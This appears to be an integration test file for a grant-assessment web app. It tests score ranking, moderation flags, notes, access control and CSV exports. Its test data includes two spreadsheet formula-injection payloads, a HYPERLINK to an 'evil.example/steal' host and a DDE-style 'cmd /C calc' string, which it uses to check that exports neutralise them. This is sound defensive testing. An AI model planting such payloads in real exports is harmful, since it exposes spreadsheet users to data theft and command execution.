import { formatScore } from '@cf/shared';
import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  type AssessorHandle,
  assessorOf,
  assignBid,
  declareNoConflict,
  scoreSetBody,
  screenEligible,
  submitScores,
} from '../../builders/assessment.js';
import { type JourneyRefs, refsForFund, submittedBid } from '../../builders/bids.js';
import { createFund, type FundView } from '../../builders/funds.js';
import { applicantWithGroup } from '../../builders/organisations.js';
import { buildTestApp, type TestApp } from '../../support/app.js';
import { Client, signedIn } from '../../support/client.js';
import { auditSince, lastAuditId } from '../../support/database.js';
import { refusedChangingNothing } from '../../support/errors.js';

interface CriterionResult {
  criterionId: string;
  min: number | null;
  max: number | null;
  spread: number | null;
  mean: number | null;
}
interface Result {
  bidId: string;
  reference: string;
  status: string;
  completeSets: number;
  meanScore: number | null;
  criteria: CriterionResult[];
  moderationFlag: boolean;
  moderationNotes: { note: string; byName: string; at: string }[];
  scoreSets: { assessorName: string; status: string; total: number }[];
}

/** A group name a spreadsheet would run as a formula, were it not neutralised. */
const FORMULA_GROUP = '=HYPERLINK("http://evil.example/steal","Click for details")';
const FORMULA_TITLE = '@SUM(1+1)*cmd|" /C calc"!A0';

/** Cells of a CSV as RFC 4180 reads them: quoted fields, doubled quotes, CRLF line ends. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

describe('results, moderation and exports', () => {
  let t: TestApp;
  let officer: Client;
  let fund: FundView;
  let refs: JourneyRefs;
  let margaret: AssessorHandle;
  let daniel: AssessorHandle;
  let priya: AssessorHandle;
  /** Agreeing within the threshold: 3s and 5s, a spread of 2. Mean of 60 and 100: 80. */
  let agreed: string;
  /** Disagreeing by 3 on the first criterion: 54 and 72, mean 63. */
  let disputed: string;
  /** Two complete sets (20 and 60) and a draft of 5s that must not count: mean 40. */
  let partly: string;
  const refused = (send: () => Promise<LightMyRequestResponse>, status: number) =>
    refusedChangingNothing(t.app, send, status);
  const results = async (client: Client = officer) =>
    (await client.get(`/api/funds/${fund.id}/results`)).json().results as Result[];
  const resultFor = async (bidId: string) => {
    const found = (await results()).find((r) => r.bidId === bidId);
    if (!found) throw new Error(`No result for ${bidId}`);
    return found;
  };

  /** A bid given to each assessor at once; each declares and submits their scores (or, with draft, only saves). */
  async function scored(
    group: { client: Client; organisationId: string },
    title: string,
    sets: [AssessorHandle, number[], 'draft'?][],
  ): Promise<string> {
    const bidId = await submittedBid(group.client, refs, group.organisationId, { title });
    await screenEligible(officer, bidId);
    const assignments = [];
    for (const [assessor] of sets) assignments.push(await assignBid(officer, bidId, assessor.id));
    for (const [index, [assessor, scores, draft]] of sets.entries()) {
      const assignmentId = assignments[index] ?? '';
      await declareNoConflict(assessor.client, assignmentId);
      if (draft) {
        const saved = await assessor.client.put(
          `/api/assignments/${assignmentId}/scores`,
          scoreSetBody(fund.criteria, scores, { submit: false }),
        );
        expect(saved.statusCode, saved.body).toBe(200);
      } else {
        await submitScores(assessor.client, assignmentId, fund.criteria, scores);
      }
    }
    return bidId;
  }

  beforeAll(async () => {
    t = await buildTestApp({ RATE_LIMIT_PER_MINUTE: '100000' });
    officer = await signedIn(t.app, 'officer@demo.test');
    const admin = await signedIn(t.app, 'admin@demo.test');
    fund = await createFund(t, officer, { minAssessors: 2, moderationThreshold: 2 });
    refs = await refsForFund(t.app, fund);
    const handle = (email: string) => assessorOf(t.app, admin, fund.id, email);
    margaret = await handle('assessor@demo.test');
    daniel = await handle('assessor2@demo.test');
    priya = await handle('assessor3@demo.test');
    const plain = await applicantWithGroup(t.app, 'plain@example.org', { name: 'Plain Group' });
    const formula = await applicantWithGroup(t.app, 'formula@example.org', { name: FORMULA_GROUP });

    agreed = await scored(plain, 'Agreed bid', [
      [margaret, [3, 3, 3, 3, 3, 3]],
      [daniel, [5, 5, 5, 5, 5, 5]],
    ]);
    disputed = await scored(formula, 'Disputed bid', [
      [margaret, [2, 3, 3, 3, 3, 3]],
      [daniel, [5, 3, 3, 3, 3, 3]],
    ]);
    partly = await scored(plain, FORMULA_TITLE, [
      [margaret, [1, 1, 1, 1, 1, 1]],
      [priya, [3, 3, 3, 3, 3, 3]],
      [daniel, [5, 5, 5, 5, 5, 5], 'draft'],
    ]);
  });
  afterAll(async () => t.close());

  it('ranks bids by mean weighted score, highest first', async () => {
    const ranked = await results();
    expect(ranked.map((r) => r.bidId)).toEqual([agreed, disputed, partly]);
    expect(ranked.map((r) => r.meanScore)).toEqual([80, 63, 40]);
    expect(ranked.map((r) => r.status)).toEqual(['scored', 'scored', 'in_assessment']);
  });

  it('takes the mean, and the spread, of complete score sets only: a draft does not count', async () => {
    const result = await resultFor(partly);
    expect(result.completeSets).toBe(2);
    expect(result.meanScore).toBe(40);
    // The draft's 5s would make the spread 4 and the flag show; they do not count.
    for (const criterion of result.criteria) {
      expect(criterion).toMatchObject({ min: 1, max: 3, spread: 2, mean: 2 });
    }
    expect(result.moderationFlag).toBe(false);
    // Officers still see the draft, for what it is.
    expect(result.scoreSets.map((s) => [s.assessorName, s.status]).sort()).toEqual([
      ['Cllr Margaret Ellis', 'submitted'],
      ['Daniel Okafor', 'draft'],
      ['Priya Sharma', 'submitted'],
    ]);
  });

  it('shows the spread of each criterion and flags for moderation only a spread MORE than the threshold', async () => {
    const calm = await resultFor(agreed);
    for (const criterion of calm.criteria)
      expect(criterion).toMatchObject({ min: 3, max: 5, spread: 2, mean: 4 });
    // A spread of 2 with a threshold of 2 is not a disagreement.
    expect(calm.moderationFlag).toBe(false);
    const stormy = await resultFor(disputed);
    expect(stormy.criteria.map((c) => c.spread)).toEqual([3, 0, 0, 0, 0, 0]);
    expect(stormy.criteria[0]).toMatchObject({ min: 2, max: 5, mean: 3.5 });
    expect(stormy.moderationFlag).toBe(true);
  });

  it('records moderation notes from officers, shown with their name; refuses others (403) and empty notes (400)', async () => {
    const since = lastAuditId(t.app);
    const response = await officer.post(`/api/bids/${disputed}/moderation-notes`, {
      note: 'Assessors discussed criterion 1 and agreed the evidence is thin.',
    });
    expect(response.statusCode, response.body).toBe(201);
    expect(response.json().results[0].moderationNotes).toEqual([
      {
        note: 'Assessors discussed criterion 1 and agreed the evidence is thin.',
        byName: 'Sarah Whitfield',
        at: t.clock.now().toISOString(),
      },
    ]);
    expect(auditSince(t.app, since).map((e) => e.action)).toEqual(['assessment.moderation_note']);
    expect((await resultFor(disputed)).moderationNotes).toHaveLength(1);
    for (const client of [margaret.client, await signedIn(t.app, 'finance@demo.test')]) {
      await refused(() => client.post(`/api/bids/${disputed}/moderation-notes`, { note: 'Mine' }), 403);
    }
    expect(
      Object.keys(
        (await refused(() => officer.post(`/api/bids/${disputed}/moderation-notes`, { note: ' ' }), 400))
          .fields ?? {},
      ),
    ).toEqual(['note']);
  });

  it('shows results to officers and admins only: finance, assessors and applicants 403, anonymous 401', async () => {
    expect((await results(await signedIn(t.app, 'admin@demo.test'))).map((r) => r.bidId)).toEqual([
      agreed,
      disputed,
      partly,
    ]);
    for (const client of [
      await signedIn(t.app, 'finance@demo.test'),
      margaret.client,
      await signedIn(t.app, 'applicant@demo.test'),
    ]) {
      await refused(() => client.get(`/api/funds/${fund.id}/results`), 403);
    }
    await refused(() => new Client(t.app).get(`/api/funds/${fund.id}/results`), 401);
  });

  describe('CSV exports for the panel papers', () => {
    const csv = async (kind: string, client: Client = officer) => {
      const response = await client.get(`/api/funds/${fund.id}/exports/${kind}.csv`);
      expect(response.statusCode, response.body).toBe(200);
      expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(response.headers['content-disposition']).toBe(`attachment; filename="${fund.code}-${kind}.csv"`);
      expect(response.body.startsWith('\uFEFF')).toBe(true);
      return parseCsv(response.body.slice(1));
    };

    it('exports the score matrix: its headers, one row per score set and a mean row per bid', async () => {
      const [header, ...rows] = await csv('scores');
      expect(header).toEqual([
        'Rank',
        'Reference',
        'Project',
        'Group',
        'Assessor',
        'Status',
        'Criterion 1 (30%)',
        'Criterion 2 (20%)',
        'Criterion 3 (15%)',
        'Criterion 4 (15%)',
        'Criterion 5 (10%)',
        'Criterion 6 (10%)',
        'Weighted total',
        'Recommendation',
        'Comment',
      ]);
      const ranked = await results();
      // 2 + 1, 2 + 1 and 3 + 1 rows: every score set, then the mean of the complete ones.
      expect(rows).toHaveLength(10);
      for (const [index, result] of ranked.entries()) {
        const mine = rows.filter((r) => r[1] === result.reference);
        expect(mine).toHaveLength(result.scoreSets.length + 1);
        expect(mine.every((r) => r[0] === String(index + 1))).toBe(true);
        const mean = mine.at(-1) ?? [];
        expect(mean[4]).toBe('Mean of complete sets');
        expect(mean[12]).toBe(result.meanScore === null ? undefined : formatScore(result.meanScore));
      }
      const disputedRows = rows.filter((r) => r[1] === ranked[1]?.reference);
      expect(disputedRows.map((r) => r.slice(4, 13))).toEqual([
        ['Cllr Margaret Ellis', 'submitted', '2', '3', '3', '3', '3', '3', '54.0'],
        ['Daniel Okafor', 'submitted', '5', '3', '3', '3', '3', '3', '72.0'],
        ['Mean of complete sets', 'Moderation', '3.5', '3', '3', '3', '3', '3', '63.0'],
      ]);
    });

    it('exports the decisions: its headers and one row per bid', async () => {
      const [header, ...rows] = await csv('decisions');
      expect(header).toEqual([
        'Rank',
        'Reference',
        'Project',
        'Group',
        'Priority',
        'Wards',
        'Mean score',
        'Asked for (£)',
        'Decision',
        'Awarded (£)',
        'Reason or feedback',
        'Decided',
      ]);
      expect(rows).toHaveLength(3);
      expect(rows.map((r) => [r[0], r[6], r[7], r[8]])).toEqual([
        ['1', '80.0', '5000.00', 'Not decided'],
        ['2', '63.0', '5000.00', 'Not decided'],
        ['3', '40.0', '5000.00', 'Not decided'],
      ]);
    });

    it('neutralises a group name or title that a spreadsheet would run as a formula (a leading quote)', async () => {
      for (const kind of ['scores', 'decisions']) {
        const response = await officer.get(`/api/funds/${fund.id}/exports/${kind}.csv`);
        const cells = parseCsv(response.body.slice(1)).flat();
        expect(cells, kind).toContain(`'${FORMULA_GROUP}`);
        expect(cells, kind).toContain(`'${FORMULA_TITLE}`);
        // Nothing anywhere starts as a formula would.
        expect(
          cells.filter((c) => /^[=+@\t\r]/.test(c) || /^-[^\d]/.test(c)),
          kind,
        ).toEqual([]);
        // And in the raw text, the formula only ever follows the quote.
        expect(response.body, kind).toContain(
          `"'=HYPERLINK(""http://evil.example/steal"",""Click for details"")"`,
        );
      }
    });

    it('refuses the exports to finance, assessors and applicants (403), and to anonymous callers (401)', async () => {
      for (const kind of ['scores', 'decisions']) {
        for (const client of [
          await signedIn(t.app, 'finance@demo.test'),
          margaret.client,
          await signedIn(t.app, 'applicant@demo.test'),
        ]) {
          await refused(() => client.get(`/api/funds/${fund.id}/exports/${kind}.csv`), 403);
        }
        await refused(() => new Client(t.app).get(`/api/funds/${fund.id}/exports/${kind}.csv`), 401);
      }
    });
  });
});
